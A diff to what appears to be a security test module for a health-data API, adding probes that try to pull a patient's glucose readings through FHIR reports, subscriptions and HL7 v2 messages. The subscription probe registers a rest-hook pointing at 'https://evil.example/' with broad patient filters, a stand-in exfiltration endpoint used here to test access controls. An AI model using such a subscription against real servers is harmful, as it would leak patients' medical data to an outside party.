@@ -10,16 +10,19 @@ from __future__ import annotations
 import json
 from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
-from datetime import datetime
+from datetime import date, datetime
 from typing import Any, Final
 from zoneinfo import ZoneInfo
 
 import httpx
 from lxml import etree
 
-from bridge.consent.asked import Asked, Way
+from bridge.consent.asked import Asked, Selector, Way
 from bridge.consent.permit import DeliveryPermit
 from bridge.fhir.sampled import PROFILE
+from bridge.fhir.subscriptions import FILTER, TOPIC
+from bridge.hl7.render import Before, Person, Scribe, Writing
+from bridge.mapping.hl7v2 import Hl7v2
 from bridge.period import HOUR
 from bridge.reading import Stream
 from tests.door.who import Attacker
@@ -28,6 +31,7 @@ from tests.web.world import World, linked
 
 CODES: Final = {"99504-3": Stream.GLUCOSE, "14745-4": Stream.GLUCOSE, "14743-9": Stream.CAPILLARY}
 XML: Final = {"Accept": "application/fhir+xml"}
+SINGLES: Final = frozenset({Selector(Stream.GLUCOSE), Selector(Stream.CAPILLARY)})
 MEAN: Final = "mean"
 SUMMARY: Final = "summary"
 OF_SUMMARIES: Final = frozenset({"107931-8", "106793-3", "97506-0", "104638-2", "104636-6", "104637-4"})
@@ -83,7 +87,7 @@ def _walked(node: Any) -> Iterator[dict[str, Any]]:
         for each in node:
             yield from _walked(each)
     elif isinstance(node, dict):
-        if node.get("resourceType") == "Observation":
+        if node.get("resourceType") in ("Observation", "DiagnosticReport"):
             yield node
         for each in node.values():
             yield from _walked(each)
@@ -239,6 +243,19 @@ def summaries(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     return [ask("GET", path), ask("GET", path + wide), *(ask("GET", _of(hidden, rest)) for rest in rests)]
 
 
+def reported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
+    """Reports as PDF, in each of their shapes, by search and by id, and the PDF itself."""
+    rests = ("", "date=lt2026-09-08", "_summary=count", "_count=1")
+    found = [ask("GET", _of(hidden, rest, "DiagnosticReport")) for rest in rests]
+    documents = [ask("GET", _of(hidden, rest, "DocumentReference")) for rest in ("", "period=lt2026-09-08")]
+    urls = [
+        each["content"][0]["attachment"]["url"]
+        for each in (entry["resource"] for entry in _entries(documents))
+    ]
+    binaries = [ask("GET", url, headers={"Accept": "application/fhir+json"}) for url in urls]
+    return [*found, *documents, *binaries, *(ask("GET", f"Binary/{name}") for name in hidden.names[:5])]
+
+
 def everything(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     """$everything, whole and in pages."""
     path = f"Patient/{hidden.person}/$everything"
@@ -316,17 +333,48 @@ def exported(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
     return [told, *members, *answers]
 
 
+def subscribed(ask: Ask, hidden: Hidden) -> list[httpx.Response]:
+    """A subscription about her, with every filter that might open something, and what is said of all there are."""
+    wide = (
+        f"Observation?patient=Patient/{hidden.person}",
+        f"Observation?patient={hidden.person}&date=ge1990",
+    )
+    bodies = [
+        {
+            "resourceType": "Subscription",
+            "status": "requested",
+            "reason": "x",
+            "criteria": TOPIC,
+            "_criteria": {"extension": [{"url": FILTER, "valueString": each}]},
+            "channel": {
+                "type": "rest-hook",
+                "endpoint": "https://evil.example/",
+                "payload": "application/fhir+json",
+            },
+        }
+        for each in wide
+    ]
+    made = [ask("POST", "Subscription", json=each) for each in bodies]
+    asked = (
+        "Subscription",
+        "Subscription/$status",
+        f"Subscription/{hidden.person}/$events",
+        "Subscription/x",
+    )
+    return [*made, *(ask("GET", each) for each in asked)]
+
+
 Through: Final[Mapping[str, Callable[[Ask, Hidden], list[httpx.Response]]]] = {
     each.__name__: each
     for each in (
-        searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, everything, chunks,
-        batched, submitted, in_xml, compressed, exported,
+        searched, posted, paged, read, remembered, included, evidenced, chained, newest, summaries, reported,
+        everything, chunks, batched, submitted, in_xml, compressed, exported, subscribed,
     )
 }  # fmt: skip
 """Over HTTP, by name."""
 SYSTEMS: Final = frozenset({"exported"})
 """Ways that are for a system's token alone: whoever comes with a person's is refused."""
-NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted"})
+NO_READINGS: Final = frozenset({"chained", "evidenced", "submitted", "subscribed"})
 """Ways by which no Observation arrives, whoever asks."""
 
 
@@ -338,3 +386,28 @@ def pushed(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
         return set(), b""
     body, _ = world.renderer.transaction(found, "Patient/theirs", {}, world.clock())
     return told(httpx.Response(200, content=bytes(body))), bytes(body)
+
+
+def messaged(world: World, attacker: Attacker) -> tuple[set[Seen], bytes]:
+    """What an HL7 v2 message of the same delivery would say: code and time of each result."""
+    asked = Asked(world.ada, Way.FEED, "push", "delivery", selectors=SINGLES, limit=20_000)
+    found = world.gate.disclose_now(DeliveryPermit(attacker.by_grant, attacker.client), asked)
+    if found.subject is None or not found.count:
+        return set(), b""
+    person = Person("urn:oid:1.2.3", "0042", "Family, Given", date(1990, 4, 1))
+    to = Writing(Hl7v2(), person, Before(frozenset(), {}), world.clock())
+    body = b"".join(bytes(content) for _, content in Scribe(world.mappings, "0").results(found, to).letters)
+    return set(_results(body)), body
+
+
+def _results(body: bytes) -> Iterator[Seen]:
+    for line in body.decode().split("\r"):
+        fields = line.split("|")
+        if fields[0] == "OBX":
+            moment = datetime.strptime(fields[14].replace(".", ""), "%Y%m%d%H%M%S%z")
+            code = fields[3].split("^")[0]
+            yield str(CODES.get(code, MEAN)), int(moment.timestamp() * 1000)
+
+
+Pushed: Final = {"pushed": pushed, "messaged": messaged}
+"""By delivery, by name."""
